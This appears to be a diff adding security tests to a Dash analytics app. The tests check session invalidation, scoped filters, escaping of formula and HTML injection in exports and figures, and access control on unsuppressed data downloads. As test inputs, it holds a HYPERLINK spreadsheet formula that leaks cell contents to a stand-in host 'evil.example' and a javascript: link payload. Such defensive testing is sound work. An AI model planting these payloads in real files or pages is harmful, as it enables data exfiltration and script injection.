@@ -266,3 +266,292 @@ def test_trusted_header_only_when_configured(app_, monkeypatch) -> None:
     monkeypatch.setenv(_access.TRUSTED_HEADER_ENV, "X-Remote-User")
     assert c.get("/_dash-layout", headers=hdr).status_code == 200
     assert c.get("/_dash-layout", headers={"X-Remote-User": "nobody"}).status_code == 401
+
+
+def test_password_reset_and_removal_end_existing_sessions(app_, warehouse) -> None:
+    """A session cookie carries the account's session generation: `users reset` or `remove`
+    logs out every browser that logged in before it, at its next request."""
+    accounts.add_user(warehouse, "temp1", "lead", PW)
+    accounts.add_user(warehouse, "temp2", "lead", PW)
+    try:
+        a, b = app_.server.test_client(), app_.server.test_client()
+        assert _login(a, "temp1").status_code == 302 and _login(b, "temp2").status_code == 302
+        assert a.get("/_dash-layout").status_code == 200
+        assert b.get("/_dash-layout").status_code == 200
+        accounts.reset_password(warehouse, "temp1", "another good password")
+        assert a.get("/_dash-layout").status_code == 401  # the old session ended
+        assert b.get("/_dash-layout").status_code == 200  # others keep theirs
+        assert _login(a, "temp1", "another good password").status_code == 302
+        assert a.get("/_dash-layout").status_code == 200  # a new login works
+        accounts.remove_user(warehouse, "temp2")
+        accounts.add_user(warehouse, "temp2", "admin", PW)  # same name, same password, new
+        assert b.get("/_dash-layout").status_code == 401
+    finally:
+        for name in ("temp1", "temp2"):
+            if accounts.get_user(warehouse, name):
+                accounts.remove_user(warehouse, name)
+
+
+def _warehouse_with_a_private_cluster(path):
+    """The fixture plus cluster C9 whose only exchange X9 is in Horizons, with an institution in
+    NOR that takes part in X9 alone (ISL's I99 already takes part in Horizons' X8 only)."""
+    import duckdb
+
+    from etl import schema
+
+    wh = build_fixture_warehouse(path)
+    con = duckdb.connect(str(wh))
+    con.execute(f"""INSERT INTO "{schema.CLUSTERS.name}" (cluster_id, name, kind)
+                    VALUES ('C9', 'Hidden Cluster', 'network')""")
+    con.execute(f"""INSERT INTO "{schema.INSTITUTIONS.name}"
+                    (institution_id, name, country, cluster_id, timezone, kind)
+                    VALUES ('I98', 'Oslo School', 'NOR', 'C9', 'Europe/Oslo', 'school')""")
+    con.execute(f"""INSERT INTO "{schema.EXCHANGES.name}" (exchange_id, name, program,
+                    cluster_id, modality, setting, purpose, language, start_date, end_date)
+                    SELECT 'X9', 'Secret Exchange', 'Horizons', 'C9', modality, setting,
+                           purpose, language, start_date, end_date
+                    FROM "{schema.EXCHANGES.name}" WHERE exchange_id = 'X6'""")
+    con.execute(f"""INSERT INTO "{schema.PARTNERSHIPS.name}" (partnership_id, exchange_id,
+                    institution_a, institution_b, started_on)
+                    SELECT 'P99', 'X9', 'I98', 'I11', started_on
+                    FROM "{schema.PARTNERSHIPS.name}" LIMIT 1""")
+    con.close()
+    accounts.add_user(wh, "bridges1", "lead", PW, programs=["Bridges"])
+    accounts.add_user(wh, "c9", "lead", PW, clusters=["C9"])
+    accounts.add_user(wh, "all1", "admin", PW)
+    return wh
+
+
+def _filter_bar(app_module, name: str) -> dict[str, list[str]]:
+    c = app_module.server.test_client()
+    assert _login(c, name).status_code == 302
+    cbs = _callbacks(app_module)
+    out = next(o for o, e in cbs.items()
+               if _access._callback_name(e["callback"]) == "pages._ui.sync_filters")
+    r = _post(c, _body(out, cbs[out]))
+    assert r.status_code == 200
+    resp = r.get_json()["response"]
+    return {f: [o["value"] for o in resp[f"filter-{f}"]["options"]]
+            for f in ("program", "cluster", "exchange", "country")}
+
+
+def test_scoped_filter_bar_names_only_the_scope(tmp_path, monkeypatch) -> None:
+    """Issue 14: a program lead's filter bar offers the clusters, exchanges and countries of
+    its programs only; other programs' names never reach its browser."""
+    wh = _warehouse_with_a_private_cluster(tmp_path / "warehouse.duckdb")
+    monkeypatch.setenv("EXCHANGE_IMPACT_WAREHOUSE", str(wh))
+    import app as app_module
+
+    everything = _filter_bar(app_module, "all1")
+    assert "C9" in everything["cluster"] and "X9" in everything["exchange"]
+    assert {"NOR", "ISL"} <= set(everything["country"])
+
+    bridges = _filter_bar(app_module, "bridges1")
+    assert bridges["program"] == ["Bridges"]
+    assert sorted(bridges["exchange"]) == ["X1", "X2", "X3", "X4", "X5"]
+    assert "C9" not in bridges["cluster"] and sorted(bridges["cluster"]) == ["C1", "C2", "C3",
+                                                                             "C4"]
+    assert "NOR" not in bridges["country"] and "ISL" not in bridges["country"]
+
+    c9 = _filter_bar(app_module, "c9")
+    assert c9 == {"program": ["Horizons"], "cluster": ["C9"], "exchange": ["X9"],
+                  "country": ["NOR"]}
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def test_formula_injection_in_names_is_neutralised_in_exports(tmp_path) -> None:
+    """Attack: an institution, exchange, cluster or program named like a spreadsheet formula.
+    Names stay out of the exports (ids only); text that does reach them (the program, an
+    exchange's purpose) starts with a quote in CSV and XLSX, and no XLSX cell is a formula."""
+    import csv
+
+    import duckdb
+    import openpyxl
+
+    from analytics.outputs import cli
+    from etl import schema
+    from tests.analytics_fixture import run
+
+    wh = build_fixture_warehouse(tmp_path / "warehouse.duckdb")
+    con = duckdb.connect(str(wh))
+    con.execute(f'UPDATE "{schema.INSTITUTIONS.name}" SET name = ?', ["+" + FORMULA[1:]])
+    con.execute(f'UPDATE "{schema.CLUSTERS.name}" SET name = ?', ["@" + FORMULA[1:]])
+    con.execute(f'UPDATE "{schema.EXCHANGES.name}" SET name = ?', [FORMULA])
+    con.execute(f"UPDATE \"{schema.EXCHANGES.name}\" SET program = ? WHERE program = 'Horizons'",
+                [FORMULA])
+    con.execute(f'UPDATE "{schema.EXCHANGES.name}" SET purpose = ?', ["-2+3\tcmd"])
+    con.close()
+    assert cli.main(["refresh", "--warehouse", str(wh)]) == 0  # results over the new names
+    dangerous = tuple("=+-@\t\r")
+    for fmt in ("csv", "xlsx"):
+        out = tmp_path / fmt
+        r = run("analytics", "export", "--all", "--format", fmt, "--out", str(out),
+                "--warehouse", str(wh))
+        assert r.returncode == 0, r.stderr
+        cells: list[object] = []
+        if fmt == "csv":
+            for f in out.glob("*.csv"):
+                with open(f, encoding="utf-8-sig", newline="") as fh:
+                    cells += [v for row in csv.reader(fh) for v in row]
+        else:
+            for f in out.glob("*.xlsx"):
+                wb = openpyxl.load_workbook(f)
+                for ws in wb.worksheets:
+                    for row in ws.iter_rows():
+                        assert all(c.data_type != "f" for c in row), (f.name, ws.title)
+                        cells += [c.value for c in row]
+        texts = [v for v in cells if isinstance(v, str)]
+        assert "'" + FORMULA in texts, fmt  # the program's cells, quoted
+        assert "'-2+3\tcmd" in texts, fmt  # the purpose (moderation levels), quoted
+        for v in texts:
+            assert not v.startswith(dangerous) or _is_number(v), (fmt, v)
+        assert not any("evil.example" in v and not v.startswith("'") for v in texts), fmt
+
+
+def _is_number(v: str) -> bool:
+    """Numbers written as text in CSV ("-0.25", "-inf") are numbers, not formulas."""
+    try:
+        float(v)
+    except ValueError:
+        return False
+    return True
+
+
+def test_html_in_institution_names_is_escaped_in_figures(tmp_path, monkeypatch) -> None:
+    """Attack: markup in an institution's name. Plotly renders a subset of HTML (<a href>, <b>)
+    in hover text and labels; the partnership network's answer carries the name escaped."""
+    import html as html_lib
+
+    import duckdb
+
+    from etl import schema
+
+    evil = EVIL + '<a href="javascript:alert(3)">x</a>'
+    wh = build_fixture_warehouse(tmp_path / "warehouse.duckdb")
+    con = duckdb.connect(str(wh))
+    con.execute(f'UPDATE "{schema.INSTITUTIONS.name}" SET name = ?', [evil])
+    con.close()
+    monkeypatch.setenv("EXCHANGE_IMPACT_WAREHOUSE", str(wh))
+    import app as app_module
+
+    c = app_module.server.test_client()
+    cbs = _callbacks(app_module)
+    out = next(o for o, e in cbs.items()
+               if _access._callback_name(e["callback"]) == "pages.partnerships.network")
+    r = _post(c, _body(out, cbs[out], {"filters": {}, "query": ""}))
+    assert r.status_code == 200
+    raw = r.get_data(as_text=True)
+    assert "<script" not in raw and "<a href" not in raw and "<img" not in raw
+    fig = r.get_json()["response"]["partnerships-network"]["figure"]
+    texts = [t for tr in fig["data"] if tr.get("name") == "institutions" for t in tr["text"]]
+    assert texts and set(texts) == {html_lib.escape(evil, quote=False)}
+
+
+def _download_body(table: str, unsuppressed: object, pending: object = None) -> dict:
+    """The Data page's download request (a click on "Download table", or a poll)."""
+    poll = pending is not None
+    return {
+        "output": "..data-download-file.data...data-download-status.children..."
+                  "data-download-pending.data...data-download-poll.disabled..",
+        "outputs": [{"id": "data-download-file", "property": "data"},
+                    {"id": "data-download-status", "property": "children"},
+                    {"id": "data-download-pending", "property": "data"},
+                    {"id": "data-download-poll", "property": "disabled"}],
+        "inputs": [{"id": "data-download-button", "property": "n_clicks",
+                    "value": None if poll else 1},
+                   {"id": "data-download-all", "property": "n_clicks", "value": None},
+                   {"id": "data-download-poll", "property": "n_intervals",
+                    "value": 1 if poll else None}],
+        "state": [{"id": "data-download-table", "property": "value", "value": table},
+                  {"id": "data-download-format", "property": "value", "value": "csv"},
+                  {"id": "data-download-pending", "property": "data", "value": pending},
+                  {"id": "data-download-unsuppressed", "property": "value",
+                   "value": unsuppressed}],
+        "changedPropIds": ["data-download-poll.n_intervals" if poll
+                           else "data-download-button.n_clicks"],
+    }
+
+
+def _download(client, table: str, unsuppressed: object) -> tuple[dict, bytes | None]:
+    """Click, poll until the builder (its own process) is done, fetch the file: the last
+    answer and the file's bytes (None when the page said no)."""
+    import time
+
+    got = _post(client, _download_body(table, unsuppressed)).get_json()["response"]
+    while "data-download-file" not in got and (got.get("data-download-pending") or {}).get("data"):
+        time.sleep(0.2)  # waits on the build's state; the test's outcome does not depend on it
+        got = _post(client, _download_body(table, None, got["data-download-pending"]["data"])
+                    ).get_json()["response"]
+    if "data-download-file" not in got:
+        return got, None
+    r = client.get(got["data-download-file"]["data"]["url"])
+    assert r.status_code == 200, r.data[:300]
+    return got, r.data
+
+
+def _suppressed_rows(data: bytes) -> int:
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    return sum(bool(r["suppressed"]) for r in rows)
+
+
+def test_researchers_download_unsuppressed_tables_others_never(app_, warehouse) -> None:
+    """Issue 14: a researcher (or admin) may ask the Data page for the unsuppressed variant;
+    a lead asking gets a refusal beside the button, and the unsuppressed file's URL answers
+    403 to leads and funders even when they know it."""
+    from flask_login import login_user
+
+    from pages import data
+
+    for name, role, progs in (("res1", "researcher", ()), ("resb", "researcher", ["Bridges"])):
+        if accounts.get_user(warehouse, name) is None:
+            accounts.add_user(warehouse, name, role, PW, programs=progs)
+    res = app_.server.test_client()
+    assert _login(res, "res1").status_code == 302
+    _got, k10 = _download(res, "prepost", [])
+    got, k0 = _download(res, "prepost", ["k0"])
+    url = got["data-download-file"]["data"]["url"]
+    assert "-k0/" in url and "-k10/" not in url
+    assert _suppressed_rows(k10) > 0 and _suppressed_rows(k0) == 0  # small groups included
+    assert any(r[1] == "res1" and r[2] == "download" and "-k0/" in r[3]
+               for r in accounts.audit_rows(warehouse, 20))
+
+    lead = app_.server.test_client()
+    assert _login(lead, "lead3").status_code == 302  # scoped (Bridges)
+    admin_lead = "lead_all"
+    if accounts.get_user(warehouse, admin_lead) is None:
+        accounts.add_user(warehouse, admin_lead, "lead", PW)
+    lead_all = app_.server.test_client()
+    assert _login(lead_all, admin_lead).status_code == 302
+    got, file_ = _download(lead_all, "prepost", ["k0"])
+    assert file_ is None and "unsuppressed tables are for researchers" in json.dumps(got)
+    forged = {"table": "prepost", "fmt": "csv", "polls": 1, "k": 0}  # a poll made up
+    got = _post(lead_all, _download_body("prepost", None, forged)).get_json()["response"]
+    assert "data-download-file" not in got and "unsuppressed tables are for" in json.dumps(got)
+    for bad in ({**forged, "k": "0"}, {**forged, "k": True}, {**forged, "k": 3}):
+        assert _post(lead_all, _download_body("prepost", None, bad)).status_code == 400
+    assert _post(lead_all, _download_body("prepost", ["k0", "x"])).status_code == 400
+    _got, plain = _download(lead_all, "prepost", [])
+    assert plain is not None and _suppressed_rows(plain) > 0  # the suppressed one still comes
+    for c in (lead, lead_all):
+        assert c.get(url).status_code == 403
+    funder = app_.server.test_client()
+    assert _login(funder, "funder1").status_code == 302
+    assert funder.get(url).status_code == 403
+    scoped = app_.server.test_client()
+    assert _login(scoped, "resb").status_code == 302
+    assert scoped.get(url).status_code == 403  # files hold every program
+    assert res.get(url).status_code == 200
+
+    # the switch is offered to those who may use it only
+    for name, offered in (("res1", True), ("admin1", True), ("lead_all", False),
+                          ("resb", False), ("funder1", False)):
+        with app_.server.test_request_context():
+            login_user(_access._User(accounts.get_user(warehouse, name)))
+            assert data.may_unsuppress() is offered, name
+            row = data._unsuppressed_switch()
+            assert (row.style is None) is offered, name
